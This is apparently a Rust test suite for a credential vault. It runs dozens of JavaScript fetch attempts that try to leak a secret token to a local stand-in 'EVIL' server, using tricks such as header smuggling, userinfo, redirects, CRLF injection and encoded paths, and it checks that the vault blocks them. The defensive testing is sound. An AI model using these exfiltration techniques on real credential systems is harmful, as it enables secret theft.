//! Ways to get a value out: to another place than its own, or in a place where
//! nobody granted it. Nothing of it moves but where it is bound.

use serde_json::Value;

use super::{VALUE, Vaulted, assert_clean, ok};
use crate::support::home::Home;
use crate::support::server::Server;

/// One attempt: what it is called, the expression that makes it, and whether
/// the value may arrive at its own server.
struct Attempt(&'static str, &'static str, bool);

/// `OWN` is the server that the credential is for (TLS), `EVIL` another on this
/// machine, `P` the placeholder, `OTHER` that of a credential for EVIL.
const ATTEMPTS: &[Attempt] = &[
    Attempt("bound", "f(OWN, { headers: { Authorization: 'Bearer ' + P } })", true),
    Attempt("another header", "f(OWN, { headers: { 'X-Api-Key': P } })", true),
    Attempt("in the middle of a value", "f(OWN, { headers: { 'X-Api-Key': 'a=' + P + ';b' } })", true),
    Attempt("basic", "f(OWN, { headers: { Authorization: 'Basic ' + btoa('user:' + P) } })", true),
    Attempt("a cookie", "f(OWN, { headers: { Cookie: 't=' + P } })", true),
    Attempt("joined with itself", "f(OWN, { headers: { 'X-Api-Key': P + P } })", true),
    Attempt("other host", "f(EVIL, { headers: { Authorization: 'Bearer ' + P } })", false),
    Attempt("other host, basic", "f(EVIL, { headers: { Authorization: 'Basic ' + btoa(P + ':x') } })", false),
    Attempt(
        "other host, basic without padding",
        "f(EVIL, { headers: { Authorization: 'Basic ' + btoa('a:' + P).replace(/=+$/, '') } })",
        false,
    ),
    Attempt("other port", "f(OWN.replace(/:\\d+$/, ':' + new URL(EVIL).port), { headers: { Authorization: P } })", false),
    Attempt("plain http", "f(OWN.replace('https:', 'http:'), { headers: { Authorization: P } })", false),
    Attempt("by a name in the clear", "f('http://nas.test:' + new URL(EVIL).port, { headers: { Authorization: CLEAR } })", false),
    Attempt("by address", "f(OWN.replace('localhost', '127.0.0.1'), { headers: { Authorization: P } })", false),
    Attempt(
        "redirect to another host",
        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { Authorization: 'Bearer ' + P } }, true)",
        true,
    ),
    Attempt(
        "redirect with another header",
        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { headers: { 'X-Api-Key': P } }, true)",
        true,
    ),
    Attempt(
        "redirect that the guest follows itself",
        "f(OWN + '/to?url=' + encodeURIComponent(EVIL + '/x'), { redirect: 'manual', headers: { 'X-Api-Key': P } }, true).then(() => f(EVIL, { headers: { 'X-Api-Key': P } }))",
        true,
    ),
    Attempt("host header", "f(EVIL, { headers: { Host: new URL(OWN).host, Authorization: P } })", false),
    Attempt("placeholder as host header", "f(OWN, { headers: { Host: P } })", false),
    Attempt("x-forwarded-host", "f(EVIL, { headers: { 'X-Forwarded-Host': new URL(OWN).host, Authorization: P } })", false),
    Attempt("userinfo", "f(OWN.replace('https://', 'https://' + P + ':x@'))", false),
    Attempt(
        "userinfo that looks like the host",
        "f(EVIL.replace('http://', 'http://localhost:443@'), { headers: { Authorization: P } })",
        false,
    ),
    Attempt("query", "f(OWN + '/q?key=' + P, {}, true)", false),
    Attempt("query, percent-encoded", "f(OWN + '/q?key=%77' + P.slice(1), {}, true)", false),
    Attempt("path", "f(OWN + '/' + P + '/x', {}, true)", false),
    Attempt("path, percent-encoded", "f(OWN + '/%77' + P.slice(1), {}, true)", false),
    Attempt("fragment", "f(OWN + '/x#' + P, {}, true)", false),
    Attempt("host name", "f('https://' + P.replace('_', '-') + '.localhost:' + new URL(OWN).port)", false),
    Attempt("body", "f(OWN, { method: 'POST', body: P })", false),
    Attempt(
        "json body",
        "f(OWN, { method: 'POST', body: JSON.stringify({ a: P }), headers: { 'Content-Type': 'application/json' } })",
        false,
    ),
    Attempt("form body", "f(OWN, { method: 'POST', body: new URLSearchParams({ a: P }) })", false),
    Attempt("bytes of a body", "f(OWN, { method: 'POST', body: new TextEncoder().encode(P) })", false),
    Attempt("late in a long body", "f(OWN, { method: 'POST', body: 'x'.repeat(300000) + P })", false),
    Attempt("body to another host", "f(EVIL, { method: 'POST', body: P })", false),
    Attempt("header name", "f(OWN, { headers: { [P]: 'x' } })", false),
    Attempt("header name to another host", "f(EVIL, { headers: { ['x-' + P]: 'x' } })", false),
    Attempt("method", "f(OWN, { method: P })", false),
    Attempt("two joined, of two hosts", "f(OWN, { headers: { 'X-Api-Key': P + OTHER } })", false),
    Attempt("two joined, of two hosts, to the other", "f(EVIL, { headers: { 'X-Api-Key': P + OTHER } })", false),
    Attempt("two headers of two hosts", "f(EVIL, { headers: { 'X-One': OTHER, 'X-Two': P } })", false),
    Attempt("the prefix twice", "f(EVIL, { headers: { 'X-Api-Key': 'wardroom_' + P } })", false),
    Attempt("overlapped", "f(EVIL, { headers: { 'X-Api-Key': P.slice(0, 20) + P } })", false),
    Attempt("in capitals", "f(EVIL, { headers: { 'X-Api-Key': P.toUpperCase() } })", false),
    Attempt("in capitals to its own", "f(OWN, { headers: { 'X-Api-Key': P.toUpperCase() } })", false),
    Attempt("a guessed one", "f(OWN, { headers: { 'X-Api-Key': 'wardroom_' + '0'.repeat(32) } })", false),
    Attempt("an unassigned name", "f(OWN, { headers: { Authorization: 'Bearer ' + credentials.UNASSIGNED } })", false),
    Attempt("placeholder of an unassigned name", "credentials.placeholder('UNASSIGNED')", false),
    Attempt("reveal without the grant", "credentials.reveal('API_TOKEN')", false),
    Attempt("reveal of an unassigned name", "credentials.reveal('UNASSIGNED')", false),
    Attempt("sign without the grant", "credentials.sign('API_TOKEN', { hmac: { hash: 'sha256', message: 'x' } })", false),
    Attempt("range", "f(OWN, { headers: { Authorization: P, Range: 'bytes=0-3' } })", true),
    Attempt("proxy-authorization", "f(OWN, { headers: { 'Proxy-Authorization': P } })", false),
    Attempt("te", "f(OWN, { headers: { TE: P } })", false),
    Attempt("connection", "f(OWN, { headers: { Connection: P } })", false),
    Attempt("a second line in a header", "f(EVIL, { headers: { 'X-Api-Key': 'a\\r\\nX: ' + P } })", false),
    Attempt("upper-case host", "f(EVIL.replace('127.0.0.1', 'LOCALHOST'), { headers: { Authorization: P } })", false),
    Attempt(
        "final dot",
        "f(OWN.replace('localhost', 'localhost.').replace(/:\\d+$/, ':' + new URL(EVIL).port), { headers: { Authorization: P } })",
        false,
    ),
];

fn attempts_script() -> String {
    let attempts: Vec<String> =
        ATTEMPTS.iter().enumerate().map(|(index, Attempt(_, code, _))| format!("await attempt({index}, async (f) => {code});")).collect();
    format!(
        "const OWN = params.own, EVIL = params.evil, P = credentials.API_TOKEN, OTHER = credentials.OTHER_TOKEN, CLEAR = credentials.CLEAR_TOKEN;
        const seen = [];
        async function attempt(index, make) {{
            const f = async (url, init = {{}}, whole = false) => {{
                const target = whole ? url + (url.includes('?') ? '&' : '?') + 'n=' + index : url + '/n/' + index;
                const r = await fetch(target, init);
                return r.status + ' ' + (await r.text()).slice(0, 2000);
            }};
            try {{ seen[index] = String(await make(f)); }} catch (e) {{ seen[index] = 'refused: ' + e; }}
        }}
        {}
        return seen;",
        attempts.join("\n")
    )
}

struct Corpus {
    vaulted: Vaulted,
    evil: Server,
    record: Value,
}

fn corpus() -> Corpus {
    let vaulted = Vaulted::new();
    let evil = Server::start();
    let evil_port = evil.address().port();
    let add = |name: &str, host: &str| {
        ok(&vaulted.home.feed(&["credential", "add", name, &format!("--host={host}")], format!("{name}-0123456789")))
    };
    add("OTHER_TOKEN", &format!("127.0.0.1:{evil_port}"));
    add("CLEAR_TOKEN", &format!("nas.test:{evil_port}"));
    add("UNASSIGNED", &vaulted.host());
    vaulted.home.file("corpus.js", attempts_script());
    let own = vaulted.base();
    let own_port = vaulted.server.address().port();
    let params = [format!("--param=own={own}"), format!("--param=evil={}", evil.base())];
    let nets = [
        own.clone(),
        evil.base(),
        format!("https://127.0.0.1:{own_port}"),
        format!("http://localhost:{own_port}"),
        format!("https://localhost:{evil_port}"),
        format!("http://localhost:{evil_port}"),
        format!("http://nas.test:{evil_port}=127.0.0.1"),
    ];
    let mut args: Vec<String> = vec!["corpus.js".into()];
    args.extend(params);
    args.extend(nets.iter().map(|net| format!("--allow-net={net}")));
    args.extend(["API_TOKEN", "OTHER_TOKEN", "CLEAR_TOKEN"].map(|name| format!("--credential={name}")));
    let record = vaulted.home.record(&args);
    record.succeeded();
    Corpus { vaulted, evil, record: record.json }
}

/// The attempt that a request belongs to.
fn number(path: &str, query: &str) -> Option<usize> {
    let text = query.split('&').find_map(|pair| pair.strip_prefix("n=")).or_else(|| path.split("/n/").nth(1))?;
    text.parse().ok()
}

#[test]
fn nothing_moves_out_except_where_it_is_bound() {
    let corpus = corpus();
    assert!(ATTEMPTS.len() >= 40);
    for request in corpus.evil.requests() {
        assert_clean("another server", format!("{request:?}").as_bytes(), VALUE);
        assert_clean("another server", &request.body, VALUE);
        assert!(!format!("{request:?}").contains("CLEAR_TOKEN-"), "in the clear: {request:?}");
    }
    let mut arrived = vec![false; ATTEMPTS.len()];
    for request in corpus.vaulted.server.requests() {
        let text = format!("{} {} {:?} {}", request.path, request.query, request.headers, String::from_utf8_lossy(&request.body));
        let decoded = request.headers.get("authorization").and_then(|field| field.strip_prefix("Basic ")).map(|field| {
            use base64::Engine as _;
            String::from_utf8_lossy(&base64::engine::general_purpose::STANDARD.decode(field).unwrap_or_default()).into_owned()
        });
        let escaped = format!("{VALUE:?}");
        let holds = text.contains(escaped.trim_matches('"')) || text.contains(VALUE) || decoded.is_some_and(|text| text.contains(VALUE));
        if holds {
            let index = number(&request.path, &request.query).expect("every request says which attempt it is");
            arrived[index] = true;
        }
    }
    for (index, Attempt(name, _, bound)) in ATTEMPTS.iter().enumerate() {
        assert_eq!(arrived[index], *bound, "{name}: {}", corpus.record["output"]["json"][index]);
    }
}

#[test]
fn what_an_attempt_is_answered_holds_nothing_and_refusals_are_recorded_and_audited() {
    let corpus = corpus();
    assert_clean("the record", corpus.record.to_string().as_bytes(), VALUE);
    let refusals = corpus.record["refusals"].as_array().unwrap();
    let credential = refusals.iter().filter(|refusal| refusal["capability"] == "credentials").count();
    assert!(credential >= 10, "{refusals:?}");
    let audit = corpus.vaulted.home.read(&["audit", "list", "--event=credential-refused", "--limit=1000", "--json"]);
    let refused = audit["events"].as_array().unwrap().len();
    assert!(refused >= 20, "{refused}: {audit}");
    assert_clean("the audit log", audit.to_string().as_bytes(), VALUE);
    assert_eq!(corpus.vaulted.home.run(&["audit", "verify"]).code, Some(0));
}

#[test]
fn a_placeholder_of_another_execution_is_worth_nothing() {
    let vaulted = Vaulted::new();
    let (first, _) = vaulted.script("return credentials.API_TOKEN;", "API_TOKEN", &[]);
    let stolen = first["output"]["json"].as_str().unwrap().to_owned();
    assert!(stolen.starts_with("wardroom_"), "{first}");
    let (second, _) = vaulted.script("return credentials.API_TOKEN;", "API_TOKEN", &[]);
    assert_ne!(second["output"]["json"], stolen.as_str());
    let source = format!("const r = await fetch('BASE/echo', {{ headers: {{ 'X-Api-Key': '{stolen}' }} }}); return await r.text();");
    let (third, _) = vaulted.script(&source, "API_TOKEN", &[]);
    assert_eq!(third["status"], "failed", "{third}");
    assert!(vaulted.server.requests().is_empty());
    // Nor in a run that holds no credential at all.
    let home = Home::new();
    let server = Server::start();
    home.file("plain.js", format!("return (await fetch('{}/x', {{ headers: {{ a: '{stolen}' }} }})).status;", server.base()));
    let plain = home.record(&["plain.js", &format!("--allow-net={}", server.base())]);
    assert_eq!(plain.word("status"), "failed", "{}", plain.json);
    assert!(server.requests().is_empty());
}

#[test]
fn where_the_grant_says_so_query_path_and_body_are_filled() {
    let vaulted = Vaulted::new();
    let fetch = |what: &str| format!("const P = credentials.API_TOKEN; const r = await fetch({what}); return r.status;");
    for (scope, what) in [
        ("API_TOKEN:query", "'BASE/q?key=' + P + '&b=1'"),
        ("API_TOKEN:path", "'BASE/bot' + P + '/send'"),
        ("API_TOKEN:body", "'BASE/b', { method: 'POST', body: 'key=' + P }"),
        (
            "API_TOKEN:body",
            "'BASE/j', { method: 'POST', body: JSON.stringify({ key: P }), headers: { 'Content-Type': 'application/json' } }",
        ),
        ("API_TOKEN:body", "'BASE/f', { method: 'POST', body: new URLSearchParams({ key: P }) }"),
    ] {
        let (record, ended) = vaulted.script(&fetch(what), scope, &[]);
        assert_eq!(record["output"]["json"], 200, "{scope} {what}: {record}\n{ended}");
    }
    let requests = vaulted.server.requests();
    let encoded = crate::support::mirror::percent(VALUE);
    assert_eq!(requests[0].query, format!("key={encoded}&b=1"));
    assert_eq!(requests[1].path, format!("/bot{encoded}/send"));
    assert_eq!(String::from_utf8_lossy(&requests[2].body), format!("key={VALUE}"));
    assert_eq!(serde_json::from_slice::<Value>(&requests[3].body).unwrap(), serde_json::json!({ "key": VALUE }));
    assert_eq!(requests[3].headers["content-length"], requests[3].body.len().to_string());
    let form: Vec<(String, String)> = url::form_urlencoded::parse(&requests[4].body).into_owned().collect();
    assert_eq!(form, [("key".to_owned(), VALUE.to_owned())]);
}

#[test]
fn a_secret_address_is_put_back_where_the_request_goes_and_nowhere_else() {
    let vaulted = Vaulted::empty();
    let evil = Server::start();
    let address = format!("{}/services/T000/B000/secretpathXYZ", vaulted.base());
    ok(&vaulted.home.feed(&["credential", "add", "WEBHOOK", "--kind=url"], &address));
    let run = |code: &str| {
        vaulted.home.file("hook.js", code);
        vaulted.home.record(&["hook.js", &vaulted.allow(), &format!("--allow-net={}", evil.base()), "--credential=WEBHOOK"])
    };
    let sent = run("const r = await fetch(credentials.WEBHOOK, { method: 'POST', body: 'hello' }); return [r.status, await r.text()];");
    sent.succeeded();
    assert_eq!(vaulted.server.requests()[0].path, "/services/T000/B000/secretpathXYZ");
    assert_clean("the record", sent.json.to_string().as_bytes(), "/services/T000/B000/secretpathXYZ");
    let appended = run("const r = await fetch(credentials.WEBHOOK + '?wait=true', { method: 'POST' }); return r.status;");
    appended.succeeded();
    assert_eq!(vaulted.server.requests()[1].query, "wait=true");
    let evil_base = evil.base();
    for code in [
        "await fetch(credentials.WEBHOOK + 'more/path');".to_owned(),
        "await fetch(credentials.WEBHOOK.replace('https', 'http'));".to_owned(),
        "const u = new URL(credentials.WEBHOOK); u.port = 8443; await fetch(u);".to_owned(),
        format!("await fetch('{evil_base}/x', {{ headers: {{ a: credentials.WEBHOOK }} }});"),
        format!("await fetch('{evil_base}/x', {{ method: 'POST', body: credentials.WEBHOOK }});"),
        format!("await fetch('{evil_base}/x?u=' + encodeURIComponent(credentials.WEBHOOK));"),
    ] {
        let record = run(&code);
        assert_eq!(record.word("status"), "failed", "{code}: {}", record.json);
    }
    assert_eq!(vaulted.server.requests().len(), 2);
    assert!(evil.requests().is_empty());
    let gone = vaulted.home.run(&["exec", "list", "--json"]);
    assert_clean("all records", gone.text().as_bytes(), "/services/T000/B000/secretpathXYZ");
    super::assert_clean_folder(&vaulted.home.path(), "/services/T000/B000/secretpathXYZ");
}
